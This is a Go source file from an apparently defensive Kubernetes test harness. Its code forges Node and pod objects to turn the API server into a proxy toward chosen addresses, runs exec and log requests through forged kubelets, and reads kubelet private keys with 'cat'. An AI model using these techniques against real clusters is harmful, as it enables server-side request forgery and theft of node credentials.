package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/netip"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/tools/remotecommand"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

func nodeProxy(protocol string) func(context.Context, *Attacker, netip.AddrPort) (string, error) {
	return func(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
		return a.proxyOf(ctx, protocol, corev1.NodeInternalIP, to.Addr().String(), to.Port())
	}
}

// ByName is the proxy of a Node whose address is a name.
func ByName(ctx context.Context, a *Attacker, name string, port uint16) (string, error) {
	return a.proxyOf(ctx, "http", corev1.NodeHostName, name, port)
}

func (a *Attacker) proxyOf(ctx context.Context, protocol string, kind corev1.NodeAddressType, address string, port uint16) (string, error) {
	node, err := a.forge(ctx, kind, address, int32(port))
	if err != nil {
		return "", err
	}
	defer a.remove(ctx, node)
	return a.get(ctx, "/api/v1/nodes", fmt.Sprintf("%s:%s:%d", protocol, node.Name, port), "proxy", "canary")
}

// podAt forges a pod that runs on a node.
func (a *Attacker) podAt(ctx context.Context, node, address string) (*corev1.Pod, error) {
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: metav1.NamespaceDefault, Name: a.name("pod")},
		Spec: corev1.PodSpec{
			NodeName: node, AutomountServiceAccountToken: ptr.To(false),
			Containers: []corev1.Container{{Name: "c", Image: "example.com/none"}},
		},
	}
	if err := a.Client.Create(ctx, pod); err != nil {
		return nil, fmt.Errorf("forge a pod: %w", err)
	}
	base := client.MergeFrom(pod.DeepCopy())
	pod.Status.Phase = corev1.PodRunning
	if address != "" {
		pod.Status.PodIP, pod.Status.PodIPs = address, []corev1.PodIP{{IP: address}}
	}
	pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "c", Ready: true, State: corev1.ContainerState{Running: &corev1.ContainerStateRunning{}}}}
	if err := a.Client.Status().Patch(ctx, pod, base); err != nil {
		a.remove(ctx, pod)
		return nil, fmt.Errorf("forge the status of a pod: %w", err)
	}
	return pod, nil
}

// nowhere forges a pod that has an address, on a Node that is none: no kubelet puts its status right.
func (a *Attacker) nowhere(ctx context.Context, address netip.AddrPort) (*corev1.Pod, func(), error) {
	node, err := a.forge(ctx, corev1.NodeInternalIP, address.Addr().String(), int32(address.Port()))
	if err != nil {
		return nil, nil, err
	}
	pod, err := a.podAt(ctx, node.Name, address.Addr().String())
	if err != nil {
		a.remove(ctx, node)
		return nil, nil, err
	}
	return pod, func() { a.remove(ctx, pod, node) }, nil
}

// atKubelet does something with a pod at a forged Node.
func (a *Attacker) atKubelet(ctx context.Context, to netip.AddrPort, do func(context.Context, *corev1.Pod) (string, error)) (string, error) {
	node, err := a.forge(ctx, corev1.NodeInternalIP, to.Addr().String(), int32(to.Port()))
	if err != nil {
		return "", err
	}
	defer a.remove(ctx, node)
	pod, err := a.podAt(ctx, node.Name, "")
	if err != nil {
		return "", err
	}
	defer a.remove(ctx, pod)
	ctx, cancel := context.WithTimeout(ctx, patience)
	defer cancel()
	return do(ctx, pod)
}

func kubeletLogs(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	return a.atKubelet(ctx, to, a.logs)
}

func (a *Attacker) logs(ctx context.Context, pod *corev1.Pod) (string, error) {
	return said(a.API.CoreV1().Pods(pod.Namespace).GetLogs(pod.Name, &corev1.PodLogOptions{}).Do(ctx))
}

func kubeletExec(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	return a.atKubelet(ctx, to, func(ctx context.Context, pod *corev1.Pod) (string, error) {
		url := a.API.CoreV1().RESTClient().Post().Resource("pods").Namespace(pod.Namespace).Name(pod.Name).SubResource("exec").
			VersionedParams(&corev1.PodExecOptions{Container: "c", Command: []string{"id"}, Stdout: true}, scheme.ParameterCodec).URL()
		executor, err := remotecommand.NewSPDYExecutor(a.Config, http.MethodPost, url)
		if err != nil {
			return "", err
		}
		return "", executor.StreamWithContext(ctx, remotecommand.StreamOptions{Stdout: io.Discard})
	})
}

// kubeletRedirect has a server in the place of the worker's kubelet redirect the API server.
func kubeletRedirect(ctx context.Context, a *Attacker, to netip.AddrPort) (string, error) {
	pair, err := a.kubeletServing()
	if err != nil {
		return "", err
	}
	server, err := a.Serve(pair, redirect(to))
	if err != nil {
		return "", err
	}
	defer server.Close()
	answer, err := kubeletLogs(ctx, a, server.Address)
	return answer, server.expectAsked(answer, err)
}

// kubeletServing is the certificate that the worker's kubelet serves with: root reads it.
func (a *Attacker) kubeletServing() (*tls.Certificate, error) {
	return a.pair("/var/lib/kubelet/pki/kubelet-server-current.pem")
}

// KubeletClient is the certificate that the worker's kubelet is known by.
func (a *Attacker) KubeletClient() (*tls.Certificate, error) {
	return a.pair("/var/lib/kubelet/pki/kubelet-client-current.pem")
}

func (a *Attacker) pair(path string) (*tls.Certificate, error) {
	content, err := a.Worker.Exec(context.Background(), nil, "cat", path)
	if err != nil {
		return nil, fmt.Errorf("read kubelet's certificate: %w", err)
	}
	pair, err := tls.X509KeyPair(content, content)
	return &pair, err
}

func redirect(to netip.AddrPort) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://"+to.String()+"/canary", http.StatusTemporaryRedirect)
	})
}
